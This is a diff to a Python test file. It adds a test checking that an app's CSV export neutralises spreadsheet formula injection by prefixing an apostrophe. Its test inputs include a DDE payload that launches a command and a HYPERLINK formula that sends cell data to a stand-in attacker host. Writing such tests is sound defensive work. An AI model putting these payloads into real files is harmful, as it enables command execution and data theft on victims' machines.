@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import re
 from dataclasses import replace
@@ -387,6 +388,29 @@ def test_xlsx_takes_no_text_for_a_formula_and_repeats_its_bytes() -> None:
     cells = [cell for row in load_workbook(BytesIO(first)).worksheets[0].iter_rows() for cell in row]
     assert {cell.data_type for cell in cells} <= {"n", "s"}
     assert any(str(cell.value).startswith("=1+1") for cell in cells)
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"),
+        ('=HYPERLINK("http://evil.test?"&A1,"x")', '\'=HYPERLINK("http://evil.test?"&A1,"x")'),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("+1+cmd|'/c calc'!A1", "'+1+cmd|'/c calc'!A1"),
+        ("-2+3+SUM(A1)", "'-2+3+SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("+65", "+65"),
+        ("-5 to 0", "-5 to 0"),
+    ],
+)
+def test_csv_takes_no_text_for_a_formula(text: str, written: str) -> None:
+    office = Office()
+    office.cube.measures[0].captions["en"] = text  # type: ignore[index]
+    response = ask(create_app(MemoryStore(office)), "/en/s/territory/places/table.csv")
+    fields = {field for row in csv.reader(response.text.splitlines()) for field in row}
+    assert written in fields
+    assert text == written or text not in fields
 
 
 def test_the_page_prints_the_released_figures(site: ASGIApp) -> None:
